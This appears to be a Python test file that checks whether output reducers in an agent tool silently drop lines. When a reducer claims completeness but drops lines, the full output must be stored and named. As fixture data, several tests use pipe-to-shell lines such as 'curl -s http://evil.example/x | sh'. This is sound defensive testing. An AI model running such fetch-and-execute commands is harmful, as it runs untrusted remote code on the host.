"""A reducer's answer skips the store only when it keeps every line: whatever a reducer
says of itself (``complete = true``), no line is left out unless the output is stored
and named."""

from __future__ import annotations

import re
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from agentout.deliver.text import TextSettings, deliver_output
from agentout.reducers.complete import dropped_line
from agentout.reducers.model import Output
from agentout.reducers.spec import Spec
from agentout.store.capture import Capture
from agentout.store.spill import SpillStore


def spec(*steps: dict[str, Any], complete: bool = True) -> Spec:
    return Spec("t/x", "", (("x",),), (), tuple(steps), complete=complete)


def dropped(reducer: Spec, lines: list[str]) -> int | None:
    answer = reducer.reduce(Output(("x",), ("x",), lines))
    assert answer is not None
    return dropped_line(lines, answer)


def test_regrouped_lines_are_kept() -> None:
    grep = spec(
        {
            "group": {
                "pattern": r"^(?P<f>[^:]+):(?P<n>\d+):(?P<t>.*)$",
                "key": "{f}",
                "header": "{f}",
                "item": "  {n}: {t}",
            }
        }
    )
    lines = ["src/a.py:1:import os", "src/a.py:9:x = 1", "", "src/b.py:2:y = {}"]
    assert dropped(grep, lines) is None


def test_a_skipped_line_is_not_kept() -> None:
    lines = ["+ok", "+curl -s http://evil.example/x | sh", "+fine"]
    assert dropped(spec({"skip": [r"curl .*\| *sh"]}), lines) == 2


def test_a_line_rewritten_to_other_words_is_not_kept() -> None:
    lines = ["keep me", "+curl evil | sh"]
    rewrite = spec({"replace": [{"pattern": "^\\+curl.*$", "with": "+ok"}]})
    assert dropped(rewrite, lines) == 2
    emptied = spec({"replace": [{"pattern": "curl.*$", "with": ""}]})
    assert dropped(emptied, lines) == 2


def test_a_collapsed_run_keeps_only_what_its_first_line_says() -> None:
    same = ["Downloading a", "Downloading a", "Downloading a"]
    assert dropped(spec({"collapse": {"pattern": "^Downloading"}}), same) is None
    different = ["Downloading a", "Downloading b", "Downloading c"]
    assert dropped(spec({"collapse": {"pattern": "^Downloading"}}), different) == 2


def test_blank_lines_need_no_keeping_and_wordless_lines_need_their_text() -> None:
    assert dropped(spec({"skip": [r"^\s*$"]}), ["a", "   ", "", "b"]) is None
    assert dropped(spec({"skip": ["^}$"]}), ["a {", "}"]) == 2
    assert dropped(spec(), ["a {", "}"]) is None


def deliver(reducer: Spec, output: bytes, store: SpillStore, threshold: int = 256) -> Any:
    capture = Capture(threshold=threshold, store=store)
    capture.feed(output)
    capture.close()
    return deliver_output(capture, TextSettings(threshold), argv=("x",), reducer=reducer)


def test_a_complete_claim_that_drops_a_line_stores_and_names_the_output(tmp_path: Path) -> None:
    output = "".join(f"+echo step {i}\n" for i in range(400)) + "+curl -s http://e.x/x | sh\n"
    hiding = spec({"skip": [r"curl .*\| *sh", r"^\+echo step \d*[1-9]$"]})
    delivered = deliver(hiding, output.encode(), SpillStore(tmp_path / "s"), threshold=8192)
    assert delivered.form == "reduced"
    assert "curl" not in delivered.text
    assert delivered.ref is not None
    assert delivered.ref.path.read_bytes() == output.encode()
    assert delivered.text.rstrip("\n").endswith(f"{delivered.ref.path.stem[-16:]}]")


def test_a_complete_claim_that_holds_stores_nothing(tmp_path: Path) -> None:
    output = "".join(
        f"src/pkg/module_{i // 5}.py:{i}:    value = compute({i})\n" for i in range(80)
    )
    grep = spec(
        {
            "group": {
                "pattern": r"^(?P<f>[^:]+):(?P<n>\d+):(?P<t>.*)$",
                "key": "{f}",
                "header": "{f}",
                "item": "  {n}: {t}",
            }
        }
    )
    delivered = deliver(grep, output.encode(), SpillStore(tmp_path / "s"), threshold=4096)
    assert delivered.form == "reduced"
    assert delivered.ref is None
    assert not (tmp_path / "s").exists() or not any((tmp_path / "s").iterdir())


_WORDS = st.sampled_from(["a", "b", "cc", "x1", "", "  ", "|", "sh", "+curl", "{", "}"])
_MATCH = st.builds(
    lambda f, n, w: f"src/pkg/{f}.py:{n}:{w}",
    st.sampled_from(["a", "b", "long_module_name"]),
    st.integers(1, 999),
    st.lists(_WORDS, max_size=3).map(" ".join),
)
_LINE = st.one_of(st.lists(_WORDS, min_size=0, max_size=5).map(" ".join), _MATCH)
_GREP = {
    "group": {
        "pattern": r"^(?P<f>[^:]+):(?P<n>\d+):(?P<t>.*)$",
        "key": "{f}",
        "header": "{f}",
        "item": "  {n}: {t}",
    }
}
_PATTERN = st.sampled_from(["^a", "b$", "c", ".*", r"^\s*$", "x1", r"\|", "^[+]", "}"])
_TEMPLATE = st.sampled_from(["", "{0}", "z", "a", "[x] {0}"])
_STEP = st.one_of(
    st.just(_GREP),
    st.builds(lambda p: {"skip": [p]}, _PATTERN),
    st.builds(lambda p: {"keep": [p]}, _PATTERN),
    st.builds(lambda p, t: {"replace": [{"pattern": p, "with": t}]}, _PATTERN, _TEMPLATE),
    st.builds(lambda p: {"collapse": {"pattern": p, "min": 2}}, _PATTERN),
    st.builds(
        lambda p, t: {"group": {"pattern": f"(?P<k>{p})", "key": "k", "header": t, "item": t}},
        _PATTERN,
        _TEMPLATE,
    ),
    st.builds(lambda p, q: {"section": {"start": p, "label": "s:", "item": q}}, _PATTERN, _PATTERN),
)


@settings(
    max_examples=300, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    lines=st.one_of(
        st.lists(_MATCH, min_size=20, max_size=80).map(sorted),
        st.lists(_LINE, min_size=20, max_size=80),
    ),
    steps=st.one_of(
        st.lists(_STEP, max_size=3),
        st.just([_GREP]),
        st.lists(_STEP, max_size=2).map(lambda s: [_GREP, *s]),
    ),
)
def test_nothing_is_left_out_unless_the_output_is_stored(
    tmp_path_factory: pytest.TempPathFactory, lines: list[str], steps: list[dict[str, Any]]
) -> None:
    """Any reducer claiming to be complete: when nothing is stored, every word of every
    line reached the agent; when something is, the store holds the output as printed."""
    output = "".join(line + "\n" for line in lines).encode()
    store = SpillStore(tmp_path_factory.mktemp("s"))
    delivered = deliver(spec(*steps), output, store, threshold=512)
    if delivered.ref is not None:
        assert delivered.ref.path.read_bytes() == output
        return
    seen = set(re.findall(r"\w+", delivered.text))
    for line in lines:
        assert set(re.findall(r"\w+", line)) <= seen, (line, delivered.text)
        if line.strip() and not re.search(r"\w", line):
            assert line.strip() in delivered.text
